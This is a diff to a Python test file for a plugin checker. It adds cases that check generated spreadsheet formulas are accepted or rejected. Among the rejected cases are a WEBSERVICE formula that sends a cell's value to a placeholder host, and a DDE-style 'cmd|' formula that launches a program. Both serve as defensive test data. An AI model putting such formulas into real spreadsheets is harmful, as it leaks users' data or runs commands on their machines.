@@ -81,6 +81,16 @@ def test_a_sound_rule_agrees_with_its_reference() -> None:
     check_plugin(ruled(), references={"mine": slowly})
 
 
+def test_a_sound_formula_for_forms_has_no_fault() -> None:
+    def formula(params: Half, cells: Any) -> str:
+        return f"1-{cells.number(params.half)}/(MAX({cells.value},0)+{cells.number(params.half)})"
+
+    def drawn(draw: Any, points: float | None) -> dict[str, float]:
+        return {"half": draw.number(0.5, 90)}
+
+    check_plugin(ruled(spreadsheet=formula, drawn=drawn))
+
+
 def test_a_sound_aggregation_has_no_fault() -> None:
     check_plugin(combining(mean))
 
@@ -199,7 +209,22 @@ FAULTS: dict[str, tuple[Callable[[], Any], str]] = {
         "Vietnamese writes decimals with a comma, not “12.5 điểm”",
     ),
     "not words": (lambda: ruled(wording=lambda params, points: "points"), "mine.wording returned something"),
-    "measure": (lambda: ruled(measure=lambda params: 5), "per, measure or lower_is_better cannot be used"),
+    "measure": (lambda: ruled(measure=lambda params: 5), "per, measure, entered or lower_is_better cannot be used"),
+    "most": (lambda: ruled(entered=lambda params, points: 0.0), "per, measure, entered or lower_is_better cannot be used"),
+    "formula of another value": (
+        lambda: ruled(spreadsheet=lambda params, cells: f"{cells.value}/200"),
+        "its formula in a form says",
+    ),
+    "formula of a number": (lambda: ruled(spreadsheet=lambda params, cells: 5), "mine.spreadsheet returned something"),
+    "formula that fails": (lambda: ruled(spreadsheet=lambda params, cells: 1 / 0), "ZeroDivisionError"),
+    "formula of the network": (
+        lambda: ruled(spreadsheet=lambda params, cells: f'WEBSERVICE("http://x/"&{cells.value})'),
+        "no formula that a form can take: “WEBSERVICE",
+    ),
+    "formula of a program": (lambda: ruled(spreadsheet=lambda params, cells: "cmd|'/c calc'!A1"), "can take: “cmd|"),
+    "formula of another cell": (lambda: ruled(spreadsheet=lambda params, cells: "A1/100"), "can take: “A1/100”"),
+    "draws what it refuses": (lambda: ruled(drawn=lambda draw, points: {"half": -1.0}), "that it does not accept: {'half': -1.0}"),
+    "draws what it does not know": (lambda: ruled(drawn=lambda draw, points: {"whole": 1.0}), "that it does not accept"),
     "nothing to combine": (lambda: module(aggregations=lambda: [dti.Aggregation("mine", TITLE)]), "has no function"),
     "above one": (lambda: combining(lambda s, w: mean(s, w) + 1), "outside 0 to 1"),
     "infinite": (lambda: combining(lambda s, w: mean(s, w) / 0.0), "outside 0 to 1"),
